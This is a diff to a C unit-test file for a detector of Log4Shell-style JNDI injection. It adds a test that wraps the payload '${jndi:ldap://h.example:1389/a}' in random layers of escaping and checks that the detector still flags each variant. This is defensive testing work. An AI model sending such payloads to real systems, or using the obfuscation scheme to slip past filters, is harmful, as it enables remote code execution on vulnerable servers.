@@ -1,6 +1,7 @@
 /* What must not change a verdict: encoders, padding, other fields, their order. And what must not make one. */
 #include "base/limits.h"
 #include "detect/verdict.h"
+#include "reference.h"
 #include "support/gen_encode.h"
 #include "support/gen_lookup.h"
 
@@ -166,6 +167,29 @@ static void quoted_only_in_mail(void **state)
     in_mail = false;
 }
 
+/* Escapes here and there, by hand: where the attack stands in some form, it is found. */
+static void survives_scattered_escapes(void **state)
+{
+    (void)state;
+    enum { LAYERS = 4, FORMS = 48 }; /* half of what the search may do */
+    ct_str plain = CT_STR("${jndi:ldap://h.example:1389/a}");
+    unsigned meant = 0;
+    for (unsigned i = 0; i < runs(20000); i++) {
+        ct_arena_clear(arena);
+        ct_str text = plain;
+        for (unsigned layers = 1 + rng_below(&rng, 3); layers > 0; layers--) {
+            struct ct_buf b = new_buf();
+            gen_escape_some(&rng, text, &b);
+            text = ct_buf_view(&b);
+        }
+        if (!reference_holds(arena, text, plain, LAYERS, FORMS)) continue;
+        meant++;
+        expect_exploit(plain, text, "scattered escapes");
+    }
+    print_message("%u hold the attack\n", meant);
+    assert_true(meant > 1000);
+}
+
 /* Text that people, browsers and programs write, with no "${" open. */
 static void put_benign(struct ct_buf *b)
 {
@@ -289,8 +313,8 @@ static void benign_stays_benign(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(survives_every_chain), cmocka_unit_test(survives_mail),        cmocka_unit_test(quoted_only_in_mail),
-        cmocka_unit_test(survives_padding),    cmocka_unit_test(survives_other_fields),
+        cmocka_unit_test(survives_every_chain), cmocka_unit_test(survives_scattered_escapes), cmocka_unit_test(survives_mail),
+        cmocka_unit_test(quoted_only_in_mail), cmocka_unit_test(survives_padding),    cmocka_unit_test(survives_other_fields),
         cmocka_unit_test(order_does_not_matter), cmocka_unit_test(benign_stays_benign),
     };
     return cmocka_run_group_tests(tests, set_up, tear_down);
